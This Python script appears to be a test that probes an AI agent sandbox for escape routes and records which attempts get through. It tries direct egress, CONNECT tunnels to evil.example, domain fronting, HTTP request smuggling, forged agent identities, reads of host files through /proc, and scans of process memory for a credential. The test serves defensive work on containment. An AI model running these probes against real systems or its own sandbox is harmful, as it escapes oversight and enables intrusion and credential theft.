"""What an agent that wants out tries from inside its sandbox: ``python -I escaping.py``.

It runs alone, without anything of Muster's, reads from wishes.json what there is to be had, and writes into
findings.json what came of each attempt: a short text, with OPEN in it where it got through.
"""

import contextlib
import ctypes
import glob
import json
import os
import re
import socket
import ssl
import struct
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

LIMIT_S = 10.0
QUIET_S = 0.2
RELAY = ("127.0.0.1", 47801)
BODY = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 50, "messages": [{"role": "user", "content": "hi"}]})
WISHES: dict[str, Any] = json.loads(Path("wishes.json").read_text()) if __name__ == "__main__" else {"credential": ""}
#: In two parts, so that it does not find itself.
NEEDLE = "".join(WISHES["credential"]).encode()
found: dict[str, str] = {}


@contextlib.contextmanager
def attempt(name: str) -> Iterator[None]:
    try:
        yield
    except Exception as error:
        found[name] = f"{type(error).__name__}: {error}"


def plug(
    name: str, family: int, kind: int, address: tuple[str | int, int] | str, protocol: int = 0, content: bytes = b""
) -> None:
    """Reach an address by a socket of the sandbox's own."""
    with attempt(name), socket.socket(family, kind, protocol) as one:
        one.settimeout(LIMIT_S)
        one.connect(address)
        if content:
            one.send(content)
            one.recv(100)
        found[name] = "OPEN"


def ask(name: str, content: bytes) -> None:
    """Say something to the relay. What came of it are the first lines of what is answered."""
    with attempt(name), socket.create_connection(RELAY, LIMIT_S) as one:
        one.sendall(content)
        answer = more = one.recv(65536)
        # Somebody may answer what was hidden in it.
        one.settimeout(QUIET_S)
        with contextlib.suppress(TimeoutError):
            while more:
                more = one.recv(65536)
                answer += more
        found[name] = " then ".join(re.findall("HTTP/1.[01] [0-9]+", answer.decode("latin-1")))


def request(line: str, *headers: str, body: str = BODY) -> bytes:
    more = ("Connection: close", f"Content-Length: {len(body)}")
    return "\r\n".join([line, "Host: egress", *headers, *more, "", body]).encode()


def framed(*headers: str, body: str) -> bytes:
    """A request of which only these headers tell how long it is."""
    return "\r\n".join(["POST /anthropic/v1/messages HTTP/1.1", "Host: egress", *headers, "", body]).encode()


def networks() -> None:
    plug("direct v4", socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443))
    plug("direct v6", socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700:4700::1111", 443))
    query = bytes.fromhex("000101000001000000000000076578616d706c65036f72670000010001")
    plug("dns by udp", socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 53), content=query)
    echo = struct.pack("!BBHHH", 8, 0, 0xF7FF, 0, 0)
    plug("icmp", socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 0), socket.IPPROTO_ICMP, echo)
    plug("raw", socket.AF_INET, socket.SOCK_RAW, ("1.1.1.1", 0), socket.IPPROTO_ICMP, echo)
    plug("packets", socket.AF_PACKET, socket.SOCK_RAW, ("lo", 0))
    with attempt("dns"):
        socket.getaddrinfo("example.org", 443)
        found["dns"] = "OPEN"
    plug("host's loopback v4", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", WISHES["port"]))
    plug("host's loopback v6", socket.AF_INET6, socket.SOCK_STREAM, ("::1", WISHES["port"]))
    plug("host's loopback by another name", socket.AF_INET, socket.SOCK_STREAM, ("127.1.2.3", WISHES["port"]))
    plug("abstract socket", socket.AF_UNIX, socket.SOCK_STREAM, "\0" + WISHES["abstract"])
    plug("host of a virtual machine", socket.AF_VSOCK, socket.SOCK_STREAM, (socket.VMADDR_CID_HOST, 1024))
    with attempt("interfaces"):
        found["interfaces"] = ",".join(sorted(name for _, name in socket.if_nameindex()))


def kernel() -> None:
    """Secrets that the kernel keeps for whoever started the sandbox (keyrings(7)), and calls that make sockets."""
    libc = ctypes.CDLL(None, use_errno=True)
    search, session, read = 10, ctypes.c_long(-3), 11
    key = libc.syscall(WISHES["keyctl"], search, session, b"user", WISHES["key"].encode(), 0)
    found["keyring"] = os.strerror(ctypes.get_errno())
    if key >= 0:
        content = ctypes.create_string_buffer(100)
        libc.syscall(WISHES["keyctl"], read, key, content, 100)
        found["keyring"] = f"OPEN {content.value!r}"
    libc.syscall(425, 8, ctypes.create_string_buffer(200))
    found["io_uring"] = os.strerror(ctypes.get_errno())


def files() -> None:
    for place in WISHES["sockets"]:
        plug(f"socket {place}", socket.AF_UNIX, socket.SOCK_STREAM, place)
    for place in WISHES["files"]:
        ways = [place, f"/proc/1/root{place}", f"/proc/self/root{place}", *glob.glob(f"/proc/[0-9]*/root{place}")]
        link = Path(f"link{len(found)}")
        link.symlink_to(place)
        ways += [str(link), os.path.relpath(place)]
        readable = [way for way in ways if os.path.exists(way)]
        found[f"file {place}"] = f"OPEN {readable}" if readable else "nothing there"
        with attempt(f"writing {place}"):
            Path(place).write_text("mine")
            found[f"writing {place}"] = "in what is the sandbox's own, if it was not changed outside"
    lines = [Path(each).read_bytes().hex() for each in glob.glob("/proc/[0-9]*/cmdline")]
    found["processes of the host"] = "OPEN" if WISHES["process"] in lines else f"sees {len(lines)}"
    with attempt("signal to the host"):
        os.kill(WISHES["pid"], 0)
        line = Path(f"/proc/{WISHES['pid']}/cmdline").read_bytes().hex()
        found["signal to the host"] = "OPEN" if line == WISHES["process"] else "another process"


def holds(path: str) -> bool:
    with contextlib.suppress(OSError):
        return NEEDLE in Path(path).read_bytes()
    return False


def credential() -> None:
    """Everywhere that could hold it: variables, command lines, files that are not the system's, memory."""
    places = [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]
    system = ("/proc", "/sys", "/dev", "/usr", "/bin", "/sbin", "/lib", "/lib64", "/opt", *WISHES["programs"])
    for folder, folders, names in os.walk("/"):
        folders[:] = [each for each in folders if os.path.join(folder, each) not in system]
        places += [os.path.join(folder, name) for name in names if os.path.isfile(os.path.join(folder, name))]
    found["files looked through"] = str(len(places))
    hits = [place for place in places if holds(place)]
    looked = 0
    for process in glob.glob("/proc/[0-9]*"):
        if int(process.removeprefix("/proc/")) == os.getpid():
            continue
        with contextlib.suppress(OSError), open(f"{process}/mem", "rb", 0) as memory:
            for line in Path(f"{process}/maps").read_text().splitlines():
                span, rights, *_ = line.split()
                start, end = (int(each, 16) for each in span.split("-"))
                if not rights.startswith("rw") or end - start > 2**28:
                    continue
                with contextlib.suppress(OSError, OverflowError):
                    memory.seek(start)
                    content = memory.read(end - start)
                    looked += 1
                    if NEEDLE in content:
                        hits.append(f"{process}/mem")
    found["memory looked through"] = str(looked)
    found["credential"] = f"OPEN {hits}" if hits else "nowhere"


def tunnels() -> None:
    port = WISHES["port"]
    hosts = ["127.0.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::1]", "[::ffff:127.0.0.1]", "localhost"]
    for target in (
        *(f"{host}:{port}" for host in hosts),
        *("169.254.169.254:80", "example.org:443", "1.1.1.1:443", "api.anthropic.com:80", "api.openai.com:443"),
        *("api.anthropic.com.evil.example:443", "api.anthropic.com@evil.example:443", "%65vil.example:443"),
    ):
        ask(f"CONNECT {target}", f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    metered = "api.anthropic.com:443"
    ask("CONNECT Host", f"CONNECT {metered} HTTP/1.1\r\nHost: evil.example:443\r\n\r\n".encode())
    ask("CONNECT body", f"CONNECT {metered} HTTP/1.1\r\nHost: {metered}\r\nContent-Length: 5\r\n\r\nhello".encode())
    for name, shown, host in (("SNI", "evil.example", "evil.example"), ("Host", "api.anthropic.com", "evil.example")):
        with attempt(f"fronting by {name}"), socket.create_connection(RELAY, LIMIT_S) as one:
            one.sendall(f"CONNECT {metered} HTTP/1.1\r\nHost: {metered}\r\n\r\n".encode())
            one.recv(4096)
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            with context.wrap_socket(one, server_hostname=shown) as inner:
                inner.sendall(request("POST /v1/messages HTTP/1.1").replace(b"Host: egress", f"Host: {host}".encode()))
                found[f"fronting by {name}"] = inner.recv(4096).split(b"\r\n")[0].decode()


def requests() -> None:
    ask("absolute", request(f"POST http://127.0.0.1:{WISHES['port']}/v1/messages HTTP/1.1"))
    ask("absolute, metered", request("POST http://api.anthropic.com/v1/messages HTTP/1.1"))
    for path in (
        *("/", "/v1/messages", "/sim/ledger", "/anthropic/sim/ledger", "/anthropic/v1/organizations/api_keys"),
        *("/anthropic/v1/files", "/anthropic/v1/messages/batches", "/anthropic/v1/messages/", "/openai/v1/messages"),
        *("/anthropic//v1/messages", "/anthropic/v1/x/../messages", "/anthropic/v1/%6dessages/batches", "/control"),
        *("/anthropic/v1/messages;x=1", "/anthropic/v1/messages%2fbatches", "/anthropic/v1/models/../messages"),
        *("/other0/anthropic/v1/messages", "/status", "/agents/other0"),
    ):
        ask(f"POST {path}", request(f"POST {path} HTTP/1.1"))
    inner = "POST /anthropic/v1/messages/batches HTTP/1.1\r\nHost: egress\r\nContent-Length: 2\r\n\r\n{}"
    chunked, none = "Transfer-Encoding: chunked", f"0\r\n\r\n{inner}"
    ask("CL and TE", framed(chunked, f"Content-Length: {len(none)}", body=none))
    ask("TE and CL", framed(f"Content-Length: {len(none)}", chunked, body=none))
    ask("two CL", framed("Content-Length: 2", f"Content-Length: {2 + len(inner)}", body=f"{{}}{inner}"))
    ask("CL with a sign", framed("Content-Length: +2", body=f"{{}}{inner}"))
    ask("a folded CL", framed("Content-Length:\r\n 2", body=f"{{}}{inner}"))
    for coding in (
        "xchunked",
        "chunked, identity",
        "identity, chunked",
        "\tchunked",
        "chunked\r\nTransfer-Encoding: x",
    ):
        ask(f"TE {coding!r}", framed(f"Transfer-Encoding: {coding}", body=none))
    for size in ("0x2", "+2", "2;x=\n", " 2", "-1", "2\n"):
        ask(f"chunk of {size!r}", framed(chunked, body=f"{size}\r\n{{}}\r\n{none}"))
    ask("bare LF", framed(f"Content-Length: {len(BODY)}", body=BODY).replace(b"\r\n", b"\n"))
    ask("name with a space", framed("Content-Length : 0", body=inner))
    ask("GET with a body", request("GET /anthropic/v1/models HTTP/1.1", body=inner))


def borrowed() -> None:
    """Another agent's name wherever one might be looked for: it is answered, and it is this agent's."""
    forged = ("X-Muster-Agent: other0", "X-Agent: other0", "Forwarded: for=other0", "X-Forwarded-For: other0")
    keys = ("Authorization: Bearer other0", "x-api-key: other0", "Cookie: agent=other0", "X-Forwarded-Host: other0")
    ask("forged identity", request("POST /anthropic/v1/messages?agent=other0 HTTP/1.1", *forged, *keys))


ALL: tuple[Callable[[], None], ...] = (networks, kernel, files, credential, tunnels, requests, borrowed)

if __name__ == "__main__":
    for each in ALL:
        try:
            each()
        except Exception as error:
            found[each.__name__] = f"OPEN? it broke off: {error!r}"
    Path("findings.json").write_text(json.dumps(found, indent=1))
    print(len(found), "attempts", file=sys.stderr)
